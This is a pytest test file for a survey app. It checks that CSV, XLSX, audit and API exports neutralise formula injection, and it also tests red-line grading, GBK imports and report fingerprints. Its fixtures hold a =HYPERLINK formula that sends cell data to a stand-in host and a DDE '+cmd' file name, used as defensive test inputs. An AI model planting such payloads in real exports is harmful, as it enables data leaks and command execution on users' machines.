"""Issue 15 "must show": hostile text in every export is inert, numbers typed, BOM and one charset; the
red-line department in Compare; GBK organisation import; one data fingerprint across the three languages."""

import csv
import io
import json
import random
import re
from html import unescape

import openpyxl
import pytest
from sqlalchemy import select

from surveyapp.definitions.spreadsheet import FORMULA_TRIGGERS
from surveyapp.domain.kinds import kind_of
from surveyapp.extensions import db
from surveyapp.models import Answer, AssessmentRound, Organisation, Response
from surveyapp.services.demo import seed_demo
from surveyapp.services.scores import rebuild_aggregates, store_scores
from tests.helpers import sign_in

HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A2,"示范部门")'
HOSTILE_FILE = '+cmd|"/c calc"!A1.pdf'
PREFIXED = {HOSTILE: "'" + HOSTILE, HOSTILE_FILE: "'" + HOSTILE_FILE}


def _answer_all(round_, organisation_id: int, strength: float) -> None:
    """Re-answer every submitted response of a department as a department of ``strength`` (0–1) would."""
    rng = random.Random(1)
    questionnaire = round_.questionnaire
    for response in db.session.scalars(
        select(Response).where(Response.round_id == round_.id, Response.organisation_id == organisation_id)
    ):
        for answer in response.answers:
            item = questionnaire.item(answer.question_key)
            value = kind_of(item).demo_value(item, strength, rng)
            if value is not None and not answer.is_na:
                answer.value = value
        store_scores(response)


@pytest.fixture
def hostile(app, runner, create_user):
    """A seeded round: the first department is named with a formula and has an evidence file named with
    one; the second is the strongest by index but has hit a red line; the third is weaker and passes."""
    with app.app_context():  # version 1: the red line below is one of its items
        round_id = seed_demo(4, 5, 7, questionnaire_version=1).round_id
        round_ = db.session.get(AssessmentRound, round_id)
        named, red, passing, _ = sorted(round_.departments, key=lambda d: d.code)
        named.name_zh_hans = named.name_zh_hant = named.name_en = HOSTILE
        _answer_all(round_, red.id, 0.98)
        _answer_all(round_, passing.id, 0.85)
        checklist_key = round_.questionnaire.checklist_part.key
        for response in db.session.scalars(
            select(Response).where(Response.round_id == round_id, Response.part == checklist_key)
        ):
            answers = {a.question_key: a for a in response.answers}
            if response.organisation_id == named.id:
                file_answer = answers.get("d4_c04")
                if file_answer is None:
                    file_answer = Answer(question_key="d4_c04", questionnaire_key=response.questionnaire_key,
                                         questionnaire_version=response.questionnaire_version)  # fmt: skip
                    response.answers.append(file_answer)
                file_answer.is_na = False
                file_answer.value = {"name": HOSTILE_FILE, "stored": "x", "size": 10, "type": "application/pdf"}
            if response.organisation_id == red.id:
                answers["d1_c01"].value = "yes"  # reverse-worded: "a serious misstatement occurred" → red line
                answers["d1_c01"].is_na = False
                store_scores(response)
        db.session.flush()
        rebuild_aggregates(round_id)
        db.session.commit()
        info = {"round": round_id, "hostile_code": named.code, "red_code": red.code, "passing_code": passing.code,
                "agency": named.parent}  # fmt: skip
        db.session.expunge(info["agency"])
    create_user("admin@agency.example", "admin", organisation=info["agency"])
    create_user("trainer@agency.example", "trainer", organisation=info["agency"])
    return info


def _client(app, email, lang="en"):
    client = app.test_client()
    sign_in(client, email, lang=lang)
    return client


def _csv_cells(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode()), "every CSV starts with a BOM"
    assert response.headers["Content-Type"].lower().count("charset") == 1, response.headers["Content-Type"]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _assert_inert_csv(rows, expected=()):
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)]
    assert not live, f"unprefixed formula text: {live[:3]}"
    for text in expected:
        assert PREFIXED[text] in cells, f"{text!r} is not exported as inert text"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_inert_xlsx(data: bytes, expected=()) -> openpyxl.worksheet.worksheet.Worksheet:
    """Every text cell is a string cell holding the text itself (no formula, no visible apostrophe);
    text that starts like a formula carries Excel's quote prefix."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.freeze_panes == "A2", "the header row is frozen"
    assert all(sheet.column_dimensions[c].width for c in ("A", "B")), "columns have widths"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no formula cell"
    text_cells = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in text_cells), "text is typed string"
    assert all(c.quotePrefix for c in text_cells if c.value.startswith(FORMULA_TRIGGERS)), "quote prefix"
    texts = [c.value for c in text_cells]
    for text in expected:
        assert text in texts, f"{text!r} is not exported as it is"
        assert PREFIXED[text] not in texts, "no apostrophe shown in XLSX"
    return sheet


def test_hostile_text_is_inert_in_every_export(app, runner, hostile, create_user):
    round_id = hostile["round"]
    admin = _client(app, "admin@agency.example")
    # Departments (with the hostile name), answers (with the hostile evidence file name), responses.
    for what, expected in (("departments", [HOSTILE]), ("answers", [HOSTILE_FILE]), ("responses", [])):
        rows = _csv_cells(admin.get(f"/compare/export/{what}.csv?round={round_id}"))
        _assert_inert_csv(rows, expected)
        sheet = _assert_inert_xlsx(admin.get(f"/compare/export/{what}.xlsx?round={round_id}").data, expected)
        if what == "departments":
            overall = [row[5].value for row in sheet.iter_rows(min_row=2) if row[5].value is not None]
            assert overall and all(isinstance(v, float) for v in overall), "numbers are typed cells"
        if what == "answers":
            header = [c.value for c in sheet[1]]
            likert = header.index(next(h for h in header if h.startswith("d1_s01:")))
            values = [row[likert].value for row in sheet.iter_rows(min_row=2) if row[likert].value is not None]
            assert values and all(isinstance(v, int) for v in values), "five-point answers are numbers"
            submitted = [row[4].value for row in sheet.iter_rows(min_row=2)]
            assert all(hasattr(v, "year") for v in submitted), "dates are date cells"
    # Training matrix (department names).
    _assert_inert_xlsx(admin.get(f"/compare/training.xlsx?round={round_id}").data, [HOSTILE])
    # Audit log: the department's hostile name recorded by an organisation change is exported inert.
    from surveyapp.services.audit import record_event

    with app.app_context():
        record_event(HOSTILE, actor=None)
        db.session.commit()
    create_user("root@agency.example", "sysadmin")
    audit = _client(app, "root@agency.example").get("/admin/audit.csv")
    assert audit.status_code == 200
    _assert_inert_csv(_csv_cells(audit), [HOSTILE])
    # Organisations export (CLI): BOM, inert.
    exported = runner.invoke(args=["org", "export"]).output
    assert exported.startswith("\ufeff")
    _assert_inert_csv(list(csv.reader(io.StringIO(exported.lstrip("\ufeff")))), [HOSTILE])


def test_api_answers_csv_is_inert_with_bom_and_one_charset(app, runner, hostile):
    result = runner.invoke(args=["api", "token-create", "--email", "admin@agency.example", "--scopes",
                                 "read:exports read:scores"])  # fmt: skip
    assert result.exit_code == 0, result.output
    token = result.output.strip().split()[-1]
    client = app.test_client()
    headers = {"Authorization": f"Bearer {token}"}
    response = client.get(f"/api/v1/rounds/{hostile['round']}/answers.csv", headers=headers)
    _assert_inert_csv(_csv_cells(response), [HOSTILE_FILE])
    scores = client.get(f"/api/v1/rounds/{hostile['round']}/scores", headers=headers).get_json()
    red = next(d for d in scores["departments"] if d["code"] == hostile["red_code"])
    assert red["grade"] == "fail" and red["meets_target"] is False and red["red_lines"] >= 1
    spec = client.get("/api/v1/openapi.json").get_json()
    assert "grade" in json.dumps(spec["paths"]["/rounds/{round_id}/scores"])


def test_red_line_department_never_meets_the_target_nor_ranks_first(app, hostile):
    round_id = hostile["round"]
    trainer = _client(app, "trainer@agency.example")
    rows = list(csv.reader(io.StringIO(
        trainer.get(f"/compare/export/departments.csv?round={round_id}").get_data(as_text=True).lstrip("\ufeff")
    )))  # fmt: skip
    header, body = rows[0], rows[1:]
    red = next(r for r in body if r[1] == hostile["red_code"])
    assert red[header.index("Grade key")] == "fail" and red[header.index("Grade")] == "Fail"
    assert red[header.index("Gap to target")] == "Not met: red line hit"
    passing = [r for r in body if r[header.index("Grade key")] not in ("", "fail")]
    assert hostile["passing_code"] in [r[1] for r in passing], "the weaker department passes"
    index = header.index("Overall index")
    assert float(red[index]) > max(float(r[index]) for r in passing), "the red-line department has the top index"
    assert body.index(red) > max(body.index(r) for r in passing), "a failing department ranks below passing ones"
    with app.app_context():
        red_name = db.session.scalar(select(Organisation.name_en).where(Organisation.code == hostile["red_code"]))
    html = trainer.get(f"/compare?round={round_id}").get_data(as_text=True)
    row = html.split('id="ranking-title"')[1].split(red_name)[1].split("</tr>")[0]  # its row in the ranking
    assert "Fail" in row and "Not met: red line hit" in row and "Met<" not in row
    pdf = trainer.get(f"/compare/report.pdf?round={round_id}")
    import subprocess

    text = " ".join(subprocess.run(["pdftotext", "-", "-"], input=pdf.data, capture_output=True,
                                   check=True).stdout.decode().split())  # fmt: skip
    # Column headers may wrap inside their cells ("Red / lines" on two lines), so words, not the phrase.
    assert "Grade" in text and "Fail < 60" in text and re.search(r"\bRed\b.{0,80}\blines\b", text)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030"])
def test_organisation_import_reads_utf8_and_gbk_with_optional_names(app, runner, tmp_path, encoding):
    path = tmp_path / "org.csv"
    path.write_bytes(
        ("code,kind,parent_code,name_zh_hans\r\nXIAN,agency,,示范县人民政府\r\nXIAN-CZ,department,XIAN,县财政局\r\n")
        .encode(encoding)
    )  # fmt: skip
    result = runner.invoke(args=["org", "import", str(path)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        bureau = db.session.scalar(select(Organisation).where(Organisation.code == "XIAN-CZ"))
        assert bureau.name_zh_hans == "县财政局" and bureau.parent.code == "XIAN"
        assert bureau.name("en") == bureau.name("zh_Hant") == "县财政局", "falls back to the Simplified name"


def test_organisation_import_refuses_other_encodings_in_one_line(app, runner, tmp_path):
    path = tmp_path / "org.csv"
    path.write_bytes("code,kind,parent_code,name_zh_hans\nD2,department,,財政局\n".encode("big5"))
    result = runner.invoke(args=["org", "import", str(path)])
    assert result.exit_code == 1
    problems = [line for line in result.output.splitlines() if line.startswith(str(path))]
    assert len(problems) == 1 and "UTF-8" in problems[0] and "Save As" in problems[0]
    with app.app_context():
        assert db.session.scalar(select(Organisation).where(Organisation.code == "D2")) is None


def test_data_fingerprint_is_the_same_in_the_three_languages(app, runner, hostile):
    from surveyapp.reporting.report import render_html
    from surveyapp.reporting.scorecard import canonical_json, data_fingerprint
    from surveyapp.services.scorecards import department_scorecard_data, round_context

    with app.app_context():
        round_ = db.session.get(AssessmentRound, hostile["round"])
        department = next(d for d in round_.departments if d.code == hostile["red_code"])
        context = round_context(round_)
        data = {lang: department_scorecard_data(context, department, lang) for lang in ("zh_Hans", "zh_Hant", "en")}
    fingerprints = {lang: d.fingerprint() for lang, d in data.items()}
    assert len(set(fingerprints.values())) == 1, fingerprints
    assert len({d.digest() for d in data.values()}) == 3, "the cache key still tells the languages apart"
    facts = data["en"].facts
    assert facts["department"] == hostile["red_code"] and facts["grade"] == "fail" and facts["red_lines"]
    import datetime as dt
    import hashlib

    html = {lang: unescape(render_html(d, {"bars": "", "radar": "", "spread": "", "trend": ""},
                                       dt.datetime(2026, 1, 1)))
            for lang, d in data.items()}  # fmt: skip
    assert "数据指纹（SHA-256）" in html["zh_Hans"] and "資料指紋（SHA-256）" in html["zh_Hant"]
    assert "data fingerprint (SHA-256)" in html["en"]
    for page in html.values():
        assert fingerprints["en"] in page
        assert "优秀 ≥ 85" in html["zh_Hans"] and "不合格 < 60" in html["zh_Hans"] and "≥ 0" not in html["zh_Hans"]
    # The appendix prints the canonical text; its SHA-256 is the fingerprint (what an auditor recomputes).
    recomputed = hashlib.sha256(canonical_json(facts).encode("utf-8")).hexdigest()
    assert recomputed == data_fingerprint(facts) == fingerprints["zh_Hans"]
    result = runner.invoke(args=["report", "fingerprint", "--department", hostile["red_code"], "--round",
                                 str(hostile["round"])])  # fmt: skip
    assert result.exit_code == 0, result.output
    printed_json, printed_hash = result.output.strip().splitlines()
    assert hashlib.sha256(printed_json.encode("utf-8")).hexdigest() == fingerprints["en"]
    assert printed_hash == f"SHA-256 {fingerprints['en']}"
